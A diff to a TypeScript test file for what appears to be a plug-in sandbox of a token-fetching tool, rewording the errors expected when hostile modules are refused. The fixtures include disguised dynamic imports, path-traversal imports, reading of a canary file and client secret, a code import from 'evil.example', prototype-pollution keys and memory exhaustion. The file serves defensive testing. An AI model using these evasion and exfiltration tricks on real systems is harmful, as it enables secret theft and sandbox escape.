@@ -12,7 +12,7 @@ export interface HostileModule {
   readonly files: Readonly<Record<string, string>>;
   /** Arguments after its path. */
   readonly args?: readonly string[];
-  /** The run ends with 8, and stderr holds this: the module by its name, and why. */
+  /** The run exits with 8, and stderr contains this: the module by its name, and why. */
   readonly says?: readonly RegExp[];
   /** The run ends as if nothing was: with 0, and the token alone on stdout. */
   readonly harmless?: true;
@@ -119,11 +119,11 @@ const reading: Readonly<Record<string, HostileModule>> = {
   },
   "imports a file from above": {
     files: { "evil.js": `import other from "../other.ts";\n${evil()}` },
-    says: [/\.\/evil\.js: it imports a file outside of its folder/],
+    says: [/\.\/evil\.js: it imports a file outside its folder/],
   },
   "imports a file from above, in disguise": {
     files: { "evil.js": `export * from "./x/%2e%2e/../../other.ts";\n${evil()}` },
-    says: [/\.\/evil\.js: it imports a file outside of its folder/],
+    says: [/\.\/evil\.js: it imports a file outside its folder/],
   },
   "imports the file system": {
     files: { "evil.js": `import { readFileSync } from "node:fs";\n${evil()}` },
@@ -144,35 +144,35 @@ const reading: Readonly<Record<string, HostileModule>> = {
     },
     says: [/\.\/lib\/read\.js: it imports a module of the runtime/],
   },
-  "imports while it runs": refused(
+  "uses import()": refused(
     evil("", 'const fs = await import("node:fs");'),
-    /it imports while it runs/,
+    /it uses import\(\)/,
   ),
-  "imports while it runs, in a function": refused(
+  "uses import(), in a function": refused(
     evil(
       'parameters: async () => ({ leak: (await import("node:fs")).readFileSync("canary.txt") }),',
     ),
-    /it imports while it runs/,
+    /it uses import\(\)/,
   ),
-  "imports while it runs, in disguise": refused(
+  "uses import(), in disguise": refused(
     evil("", 'const fs = await im\\u0070ort("node:fs");'),
-    /syntax error|imports while it runs/,
+    /syntax error|uses import\(\)/,
   ),
-  "imports while it runs, behind a comment": refused(
+  "uses import(), behind a comment": refused(
     evil("", "const fs = await import/* */(`node:fs`);"),
-    /imports while it runs|syntax error/,
+    /uses import\(\)|syntax error/,
   ),
-  "imports while it runs, in a template": refused(
+  "uses import(), in a template": refused(
     evil("", "const fs = `${await import(`node:fs`)}`;"),
-    /imports while it runs|syntax error/,
+    /uses import\(\)|syntax error/,
   ),
   "imports the source of a file": refused(
     evil("", 'const source = await import.source("./canary.txt");'),
-    /imports while it runs|syntax error|unusual form/,
+    /uses import\(\)|syntax error|unsupported form/,
   ),
-  "imports code that is in an address": refused(
+  "imports code in a URL": refused(
     `import "data:text/javascript,import 'node:fs'";\n${evil()}`,
-    /it imports code that is in an address/,
+    /it imports code in a URL/,
   ),
   "names a file as the map of its source": {
     files: {
@@ -204,9 +204,9 @@ const reaching: Readonly<Record<string, HostileModule>> = {
     'new EventSource("http://127.0.0.1:PORT")',
     wants("EventSource"),
   ),
-  "imports a file of the web": {
+  "imports a file from the web": {
     files: { "evil.js": `import "https://evil.example/evil.js";\n${evil()}` },
-    says: [/\.\/evil\.js: it imports a file of the web/],
+    says: [/\.\/evil\.js: it imports a file from the web/],
   },
   "imports a package": {
     files: { "evil.js": `import "npm:left-pad";\n${evil()}` },
@@ -278,7 +278,7 @@ const spoiling: Readonly<Record<string, HostileModule>> = {
   ),
   "confuses the host by the name of a setting": refused(
     evil("settings: { toString: {}, constructor: {} },"),
-    /settings\.toString has the name of something that every object has/,
+    /settings\.toString has the name of a member that every object has/,
     /settings\.constructor has the name/,
   ),
   "pollutes the host by the names of form fields": {
@@ -427,13 +427,13 @@ const prying: Readonly<Record<string, HostileModule>> = {
     evil(
       'settings: { other: { env: ["GETTOKEN_CLIENT_SECRET"] } }, parameters: (s) => ({ leak: s.other }),',
     ),
-    /settings\.other\.env: GETTOKEN_CLIENT_SECRET is not a name that a module can ask for/,
+    /settings\.other\.env: GETTOKEN_CLIENT_SECRET is not a name that a module may use/,
   ),
   "wants its own secret under another name": refused(
     evil(
       'settings: { other: { env: ["EVIL_SECRET"] }, clientSecret: { env: ["EVIL_SECRET"] } },',
     ),
-    /settings\.other\.env: EVIL_SECRET is called like a secret/,
+    /settings\.other\.env: EVIL_SECRET is a name for a secret/,
   ),
   "sends all that it is given": {
     files: {
@@ -492,7 +492,7 @@ const wrong: Readonly<Record<string, HostileModule>> = {
   "exports a thousand odd members": refused(
     evil("...Object.fromEntries(Array.from({ length: 1e3 }, (_, i) => ['k' + i, i])),"),
     /k0 is not part of the contract/,
-    /and 980 problems more/,
+    /and 980 more problems/,
   ),
   "exports a circle": refused(
     `const odd = {}; odd.odd = odd;\n${evil("response: odd,")}`,
@@ -515,7 +515,7 @@ const wrong: Readonly<Record<string, HostileModule>> = {
   ),
   "has settings without end": refused(
     evil("settings: Object.fromEntries(Array.from({ length: 1e4 }, (_, i) => ['word' + i, {}])),"),
-    /settings must be 100 at most/,
+    /settings must have at most 100 members/,
   ),
   "has another version": refused(evil("apiVersion: 2,"), /apiVersion must be 1/),
   "has the name of a provider": refused(
@@ -563,11 +563,11 @@ const wrong: Readonly<Record<string, HostileModule>> = {
   },
   "gives no endpoint": refused(
     evil("endpoint: () => {},"),
-    /endpoint\(\) returned no \{ tokenEndpoint/,
+    /endpoint\(\) returned a value that is not \{ tokenEndpoint/,
   ),
   "gives a function for an endpoint": refused(
     evil("endpoint: () => () => ({}),"),
-    /endpoint\(\) returned no \{ tokenEndpoint/,
+    /endpoint\(\) returned a value that is not \{ tokenEndpoint/,
   ),
   "gives an address of 100 MB": refused(
     evil("endpoint: () => ({ tokenEndpoint: 'https://' + 'x'.repeat(1e8) }),"),
@@ -580,7 +580,7 @@ const wrong: Readonly<Record<string, HostileModule>> = {
     return { get tokenEndpoint() { return ++looks === 1 ? 1 : "http://127.0.0.1:PORT/token"; } };
   },`,
     ),
-    /endpoint\(\) returned \{ tokenEndpoint \} whose value is no address/,
+    /endpoint\(\) returned \{ tokenEndpoint \} whose value is not a URL/,
   ),
   "gives what is not yet a promise": {
     files: {
@@ -606,7 +606,7 @@ const wrong: Readonly<Record<string, HostileModule>> = {
   ),
   "gives a form field that is not its own": refused(
     evil('parameters: () => ({ grant_type: "password" }),'),
-    /parameters\(\) returned the form field grant_type, which is gettoken's own/,
+    /parameters\(\) returned the form field grant_type, which only gettoken sets/,
   ),
   "takes all memory": refused(
     evil("", "const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()));"),
@@ -619,7 +619,7 @@ const wrong: Readonly<Record<string, HostileModule>> = {
   ),
   "gives a verdict of a wrong type": refused(
     evil("check: () => true,"),
-    /check\(\) returned something other than a text or undefined/,
+    /check\(\) returned a value that is neither a non-empty string nor undefined/,
   ),
 };
 
